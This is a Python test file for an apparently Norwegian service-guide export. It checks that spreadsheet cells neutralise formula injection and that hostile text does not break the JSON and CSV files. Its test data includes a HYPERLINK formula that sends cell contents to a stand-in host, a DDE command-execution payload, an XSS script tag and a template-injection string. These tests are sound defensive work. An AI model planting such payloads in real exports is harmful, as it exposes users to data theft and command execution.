"""Words stay words in a spreadsheet, whatever they begin with."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builders import TODAY, actor, figure, guide, phone
from veiviser.export.open_data import open_data
from veiviser.export.tables import cell, csv_text

STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE = (
    '=HYPERLINK("https://ond.example/?"&A1,"Klikk")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "Helt vanlig;=1+1",
    'Slutt";  @SUM(1)',
    "To linjer\n+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula(text: str) -> None:
    for part in cell(text).replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        assert not part.strip().startswith(tuple(STARTS))
    assert cell(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["Ring nå", "tel:+4775000001", "a=b", "", "0–5 år", "Mo-Fr 09:00-15:00; PH off"]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_numbers_and_truths_are_no_words() -> None:
    assert [cell(value) for value in (-25, 0, True, False, None, ("a", "b"))] == [
        *("-25", "0", "true", "false", "", "a | b")
    ]


@given(st.text(st.characters(codec="utf-8")))
def test_any_words_come_back_from_a_table(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_text([{"a": text, "b": "slutt"}]), newline=""))
    assert row == {"a": cell(text), "b": "slutt"}


@pytest.mark.parametrize(
    "text", [*HOSTILE, "</script><script>alert(1)</script>", "{{ 7*7 }}", 'a"b\\c\u2028']
)
def test_hostile_words_break_no_file(text: str) -> None:
    held = guide(actors=(actor(name=text, summary=text, eligibility=text),), figures=(figure(what=text),))
    files = open_data(held, "https://fjellvik.example/", TODAY)
    read = {name: json.loads(content) for name, content in files.items() if name.endswith(".json")}
    assert read["services.json"]["contents"][0]["name"] == text
    assert read["figures.json"][0]["what"] == text
    (row,) = csv.DictReader(io.StringIO(files["services.csv"], newline=""))
    assert row["name"] == cell(text) and None not in row


@pytest.mark.parametrize(
    ("number", "shown"),
    [("75 00 00 01", "tel:+4775000001"), ("+47 75 00 00 01", "tel:+4775000001"), ("02800", "tel:02800")],
)
def test_a_number_is_written_so_that_a_spreadsheet_keeps_all_of_it(number: str, shown: str) -> None:
    held = guide(actors=(actor(phones=(phone(number),)),))
    (row,) = csv.DictReader(io.StringIO(open_data(held, "https://a.example/", TODAY)["phones.csv"]))
    assert row["phone"] == shown


def test_day_and_night_does_not_become_a_date() -> None:
    held = guide(actors=(actor(phones=(phone(hours="24/7"),)),))
    (row,) = csv.DictReader(io.StringIO(open_data(held, "https://a.example/", TODAY)["phones.csv"]))
    assert row["opening_hours"] == "Mo-Su 00:00-24:00"
